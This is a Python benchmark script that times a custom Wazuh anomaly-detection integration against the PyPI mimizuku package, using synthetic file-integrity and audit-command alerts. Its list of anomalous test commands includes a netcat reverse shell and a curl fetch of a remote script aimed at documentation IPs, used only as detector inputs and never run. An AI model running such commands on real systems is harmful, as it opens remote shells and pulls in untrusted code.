#!/usr/bin/env python3
"""Cost of one ``integrations/custom-mimizuku`` call next to the peer's per-alert load-and-predict.

integratord runs the integration once per alert and waits for it, so the per-call wall time *is*
the throughput limit (alerts/s = 1 / time). This measures, over N alerts, each as its own process
the way integratord starts it:

* ours, in-process scoring: the real script, integratord's argv and temp files, the engine imported
  and the model loaded in the call, the event sent to a (fake) analysisd queue socket;
* ours, fast path: the same script handed one of the plugin's own events (dropped before any
  engine import: the cost every alert pays when the resident scorer takes the work);
* the peer, PyPI ``mimizuku==0.2.36``: ``Mimizuku.load_model(dir).predict(alert_file)`` in a fresh
  interpreter of its own virtualenv (``.bench-venv``, created here if missing), with a model it
  trained on the same alerts (FsNotify + AuditCommand, n_neighbors=5, contamination=0.001).

Wall time: around the child's whole life. Peak memory: the child's ru_maxrss from wait4().

    python bench/integration_call.py [-n 20] [--train 4000]
"""
from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BENCH_VENV = ROOT / ".bench-venv"
PEER = "mimizuku==0.2.36"
sys.path.insert(0, str(ROOT / "detector"))


# --- alerts ------------------------------------------------------------------------------------

USERS = ["root", "deploy", "www-data", "alice", "bob"]
PATHS = ["/etc/hosts", "/etc/resolv.conf", "/etc/nginx/nginx.conf", "/var/www/html/index.html",
         "/etc/ssh/sshd_config", "/usr/local/bin/backup.sh", "/etc/cron.d/logrotate", "/etc/passwd"]
COMMANDS = [["ls", "-la"], ["systemctl", "status", "nginx"], ["cat", "/var/log/syslog"], ["df", "-h"],
            ["git", "pull"], ["python3", "manage.py", "migrate"], ["tail", "-f", "/var/log/nginx/access.log"],
            ["ps", "aux"], ["journalctl", "-u", "ssh"], ["du", "-sh", "/var/lib"]]
ODD_COMMANDS = [["nc", "-e", "/bin/sh", "203.0.113.5", "4444"], ["curl", "http://203.0.113.9/x.sh"],
                ["chmod", "+s", "/tmp/.x"], ["base64", "-d", "/tmp/p"]]


def fim_alert(i: int, rng: random.Random, path=None, user=None) -> dict:
    path = path or rng.choice(PATHS)
    user = user or rng.choice(USERS[:3])
    host = rng.choice(["web-01", "web-02", "db-01"])
    return {"timestamp": "2026-11-%02dT%02d:%02d:%02d.000+0000" % (1 + i // 86400 % 28, i // 3600 % 24,
                                                                   i // 60 % 60, i % 60),
            "rule": {"level": 7, "description": "Integrity checksum changed.", "id": "550",
                     "groups": ["ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"]},
            "agent": {"id": "%03d" % (1 + PATHS.index(path) % 3 if path in PATHS else 9), "name": host,
                      "ip": "10.0.0.%d" % (1 + i % 3)},
            "manager": {"name": "wazuh"}, "id": f"1762000000.{i}", "full_log": f"File '{path}' modified",
            "decoder": {"name": "syscheck_integrity_changed"}, "location": "syscheck",
            "syscheck": {"path": path, "mode": "whodata", "event": "modified", "uname_after": "root",
                         "audit": {"effective_user": {"id": "0", "name": user},
                                   "process": {"name": "vim", "id": "1234"}}}}


def command_alert(i: int, rng: random.Random, argv=None, user=None) -> dict:
    argv = argv or rng.choice(COMMANDS)
    user = user or rng.choice(USERS)
    execve = {f"a{k}": a for k, a in enumerate(argv)}
    full_log = (f'type=EXECVE msg=audit(1762000000.{i}:{i}): argc={len(argv)} '
                + " ".join(f'a{k}="{a}"' for k, a in enumerate(argv)) + f' UID="{user}" AUID="{user}"')
    return {"timestamp": "2026-11-%02dT%02d:%02d:%02d.000+0000" % (1 + i // 86400 % 28, i // 3600 % 24,
                                                                   i // 60 % 60, i % 60),
            "rule": {"level": 3, "description": f"Audit: Command: /usr/bin/{argv[0]}", "id": "80792",
                     "groups": ["audit", "audit_command"]},
            "agent": {"id": "002", "name": "app-01", "ip": "10.0.0.2"}, "manager": {"name": "wazuh"},
            "id": f"1762000001.{i}", "full_log": full_log, "decoder": {"parent": "auditd", "name": "auditd"},
            "location": "/var/log/audit/audit.log",
            "data": {"audit": {"exe": f"/usr/bin/{argv[0]}", "command": argv[0], "uid": "1000", "euid": "1000",
                               "key": "audit-wazuh-c", "execve": execve}}}


def make_training(n: int, rng: random.Random) -> list:
    try:  # the project's generator, when it is there (standard library only)
        from mimizuku.tools.synth import FleetConfig, generate  # type: ignore

        out = []
        for a in generate(FleetConfig(days=2, scale=0.2, attacks=False, seed=1)):
            rid = str(a.get("rule", {}).get("id"))
            if rid in ("550", "553", "554", "80792"):
                out.append(a)
            if len(out) >= n:
                break
        if len(out) >= n // 4:
            return out
    except Exception:
        pass
    return [fim_alert(i, rng) if i % 2 else command_alert(i, rng) for i in range(n)]


def make_tests(n: int, rng: random.Random) -> list:
    out = []
    for i in range(n):
        k = 10_000_000 + i
        if i % 4 == 0:
            out.append(fim_alert(k, rng, path=f"/tmp/.cache/{rng.getrandbits(32):08x}", user="mallory"))
        elif i % 4 == 1:
            out.append(command_alert(k, rng, argv=rng.choice(ODD_COMMANDS), user="mallory"))
        elif i % 4 == 2:
            out.append(fim_alert(k, rng))
        else:
            out.append(command_alert(k, rng))
    return out


# --- measuring one child ---------------------------------------------------------------------

GNU_TIME = "/usr/bin/time" if os.access("/usr/bin/time", os.X_OK) else None


def measure(argv, *, cwd=None, env=None):
    """(seconds, peak RSS in MiB, exit status) of one child process.

    The peak comes from GNU time's %M when installed: a child forked from this (bigger) process
    inherits its high-water mark across exec, so wait4()'s ru_maxrss would never read below ours.
    """
    out = None
    if GNU_TIME:
        fd, out = tempfile.mkstemp(prefix="mimizuku-bench-rss-")
        os.close(fd)
        argv = [GNU_TIME, "-f", "%M", "-o", out] + list(argv)
    t0 = time.perf_counter()
    p = subprocess.Popen(argv, cwd=cwd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _, status, ru = os.wait4(p.pid, 0)
    dt = time.perf_counter() - t0
    code = os.waitstatus_to_exitcode(status)
    kib = ru.ru_maxrss
    if out:
        with open(out) as f:
            kib = int(f.read().split()[-1])
        os.unlink(out)
    return dt, kib / 1024.0, code


def summary(name, samples):
    t = sorted(s[0] for s in samples)
    m = sorted(s[1] for s in samples)

    def p99(v):
        return v[min(len(v) - 1, int(round(0.99 * (len(v) - 1))))]

    fails = sum(1 for s in samples if s[2] != 0)
    return (f"{name:<44} {statistics.median(t) * 1000:9.0f} {p99(t) * 1000:9.0f} "
            f"{statistics.median(m):9.1f} {max(m):9.1f} {len(samples):5d} {fails:5d}")


# --- the two sides -----------------------------------------------------------------------------

def ensure_peer_venv() -> Path:
    py = BENCH_VENV / "bin" / "python"
    ok = py.exists() and subprocess.run(
        [str(py), "-c", "import mimizuku, sklearn, pandas; from mimizuku.rules.fs_notify import FsNotify"],
        capture_output=True).returncode == 0
    if not ok:
        print(f"creating {BENCH_VENV} with {PEER} (from the sdist: the 0.2.36 wheel is broken)...", flush=True)
        subprocess.run([sys.executable, "-m", "venv", str(BENCH_VENV)], check=True)
        subprocess.run([str(py), "-m", "pip", "install", "-q", "--disable-pip-version-check",
                        "--no-binary", "mimizuku", PEER, "scikit-learn", "pandas", "orjson", "joblib"], check=True)
    return py


PEER_TRAIN = """
import sys
from mimizuku import Mimizuku
from mimizuku.rules.fs_notify import FsNotify
from mimizuku.rules.audit_command import AuditCommand
m = Mimizuku()
m.add_rule(FsNotify(n_neighbors=5, contamination=0.001))
m.add_rule(AuditCommand(n_neighbors=5, contamination=0.001))
m.fit(sys.argv[1])
m.save_model(sys.argv[2])
"""
OURS_TRAIN = """
import sys
sys.path.insert(0, sys.argv[1])
from mimizuku.engine.estimator import Mimizuku
Mimizuku(n_neighbors=5, contamination=0.001).fit(sys.argv[2]).save_model(sys.argv[3])
"""
PEER_PREDICT = "import sys; from mimizuku import Mimizuku; m=Mimizuku.load_model(sys.argv[1]); m.predict(sys.argv[2])"


class QueueDrain:
    """A socket where analysisd's queue would be, emptied in the background."""

    def __init__(self, path: Path, rcvbuf: int = 0):
        path.parent.mkdir(parents=True, exist_ok=True)
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.bind(str(path))
        self.sock.settimeout(0.2)
        self.count = 0
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                self.sock.recv(1 << 17)
                self.count += 1
            except socket.timeout:
                pass

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("-n", type=int, default=20, help="alerts (calls) per side (default 20)")
    ap.add_argument("--train", type=int, default=4000, help="training alerts (default 4000)")
    ap.add_argument("--keep", action="store_true", help="keep the scratch directory")
    args = ap.parse_args()

    rng = random.Random(42)
    work = Path(tempfile.mkdtemp(prefix="mimizuku-bench-"))
    try:
        home = work / "ossec"
        for d in ("integrations", "logs", "queue/sockets", "mimizuku"):
            (home / d).mkdir(parents=True)
        train = make_training(args.train, rng)
        train_file = work / "train.json"
        train_file.write_text("".join(json.dumps(a) + "\n" for a in train))
        tests = make_tests(args.n, rng)
        print(f"training alerts: {len(train)} (FIM and audited commands); test alerts: {len(tests)}", flush=True)

        ours = home / "mimizuku" / "models"
        os.chmod(home / "mimizuku", 0o700)
        t0 = time.perf_counter()
        # trained in a child: this process stays small (its children inherit its memory peak)
        subprocess.run([sys.executable, "-c", OURS_TRAIN, str(ROOT / "detector"), str(train_file), str(ours)],
                       check=True)
        print(f"ours: trained in {time.perf_counter() - t0:.1f}s", flush=True)

        peer_py = ensure_peer_venv()
        peer_dir = work / "peer-model"
        peer_dir.mkdir()
        t0 = time.perf_counter()
        subprocess.run([str(peer_py), "-c", PEER_TRAIN, str(train_file), str(peer_dir)], check=True,
                       stdout=subprocess.DEVNULL)
        print(f"peer: trained in {time.perf_counter() - t0:.1f}s", flush=True)

        script = home / "integrations" / "custom-mimizuku"
        body = (ROOT / "integrations" / "custom-mimizuku").read_text().splitlines()[1:]
        script.write_text("\n".join([f"#!{sys.executable} -IS"] + body) + "\n")  # what install.sh writes
        os.chmod(script, 0o750)
        options = work / "custom-mimizuku-1762000000-1.options"
        options.write_text(json.dumps({"model_dir": str(ours), "send": "all"}))
        drain = QueueDrain(home / "queue" / "sockets" / "queue")
        env = {"PATH": "/usr/bin:/bin", "LANG": "C"}

        ours_in, ours_fast, peer = [], [], []
        for i, alert in enumerate(tests):
            af = Path("/tmp") / f"custom-mimizuku-{int(time.time())}-{rng.getrandbits(31)}.alert"
            af.write_text(json.dumps(alert, separators=(",", ":")))
            argv = [str(script), str(af), "", "", "", str(options), "60", "3", "> /dev/null 2>&1"]
            ours_in.append(measure(argv, cwd=home, env=env))
            own = dict(alert, rule={"id": "119004", "level": 10, "groups": ["mimizuku", "anomaly"]})
            af.write_text(json.dumps(own, separators=(",", ":")))
            ours_fast.append(measure(argv, cwd=home, env=env))
            af.write_text(json.dumps(alert) + "\n")
            peer.append(measure([str(peer_py), "-c", PEER_PREDICT, str(peer_dir), str(af)], env=env))
            af.unlink()
            print(f"  {i + 1}/{len(tests)}", end="\r", flush=True)
        drain.close()
        pending = len(list((home / "mimizuku" / "spool" / "alerts").glob("*.json")))

        print()
        print(f"{'per alert (one process each)':<44} {'median ms':>9} {'p99 ms':>9} {'RSS MiB':>9} "
              f"{'max MiB':>9} {'n':>5} {'fail':>5}")
        print(summary("ours: custom-mimizuku, in-process scoring", ours_in))
        print(summary("ours: custom-mimizuku, own event (fast path)", ours_fast))
        print(summary(f"peer: {PEER} load_model + predict", peer))
        print(f"events received by the queue socket: {drain.count} (send=all: one per scored alert); "
              f"alerts left in the spool: {pending}")
        t_ours = statistics.median(s[0] for s in ours_in)
        t_peer = statistics.median(s[0] for s in peer)
        if not GNU_TIME:
            print("(no /usr/bin/time: peak memory read with wait4, floored at this process's own peak)")
        print(f"integratord throughput limit: ours {1 / t_ours:.2f} alerts/s in-process, "
              f"{1 / statistics.median(s[0] for s in ours_fast):.1f} alerts/s fast path; peer {1 / t_peer:.2f} alerts/s")
        return 0
    finally:
        if args.keep:
            print(f"scratch kept in {work}")
        else:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
